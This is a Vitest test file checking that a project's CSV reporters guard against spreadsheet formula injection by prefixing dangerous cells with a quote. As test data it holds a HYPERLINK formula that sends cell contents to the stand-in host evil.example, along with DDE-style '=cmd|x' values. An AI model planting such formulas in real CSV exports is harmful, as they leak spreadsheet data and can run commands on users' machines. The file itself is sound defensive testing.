/**
 * Issue 14, item 18: CSV injection. A text cell starting with =, +, -, @ (or a tab or carriage return,
 * which some spreadsheets skip before looking) is run as a formula when the file is opened in a
 * spreadsheet. Text reaching llem's CSVs can come from outside (a bench name, a model name a server
 * reports, a config key), so such cells get a leading ' (OWASP's advice:
 * https://owasp.org/www-community/attacks/CSV_Injection). Numbers, negative ones included, and text
 * that is a plain number stay as they are: they are data, not formulas.
 */
import { describe, expect, it } from 'vitest'
import { csvField, toCsv } from '../plugins/reporters/csv.js'
import { toCodeCarbonCsv } from '../plugins/reporters/codecarbon.js'
import { toZeusCsv } from '../plugins/reporters/zeus-csv.js'
import { completedResult } from './fixtures/results.js'
import { parseCsv } from './fixtures/parse-csv.js'

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'

describe('CSV cells', () => {
  it('text that a spreadsheet would run is prefixed with a quote', () => {
    for (const s of ['=1+1', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '-cmd|x'])
      expect(parseCsv(csvField(s) + '\n')[0][0], JSON.stringify(s)).toBe(`'${s}`)
    expect(parseCsv(csvField(FORMULA) + '\n')[0][0]).toBe(`'${FORMULA}`)
  })

  it('numbers and plain-number text are data, written as they are', () => {
    expect(csvField(-3)).toBe('-3')
    expect(csvField(-0.25)).toBe('-0.25')
    expect(csvField(-1e-7)).toBe('-1e-7')
    expect(csvField('-3')).toBe('-3')
    expect(csvField('+1.5')).toBe('+1.5')
    expect(csvField('-1e5')).toBe('-1e5')
    expect(csvField('llama')).toBe('llama')
    expect(csvField(true)).toBe('true')
    expect(csvField(null)).toBe('')
  })

  it('results.csv, emissions.csv and the Zeus CSV guard text from outside, headers included', () => {
    const r = { ...completedResult, experiment_name: FORMULA, experiment_id: '@evil', model_name: '=cmd|x', effective_config: { ...completedResult.effective_config, '=key': 1 } }
    const csv = parseCsv(toCsv([r]))
    const [header, row] = csv
    expect(row[header.indexOf('experiment_name')]).toBe(`'${FORMULA}`)
    expect(row[header.indexOf('model_name')]).toBe("'=cmd|x")
    expect(header.some((h) => /^[=+\-@]/.test(h))).toBe(false)
    const cc = parseCsv(toCodeCarbonCsv([r], '=project'))
    expect(cc[1][cc[0].indexOf('project_name')]).toBe("'=project")
    expect(cc[1][cc[0].indexOf('experiment_id')]).toBe("'@evil")
    const zeus = parseCsv(toZeusCsv([r]))
    expect(zeus[1][1]).toBe("'@evil")
    // every cell of every file: nothing a spreadsheet would run
    for (const cell of [...csv, ...cc, ...zeus].flat()) expect(/^[=+@\t\r]|^-(?![\d.])/.test(cell), cell).toBe(false)
  })
})
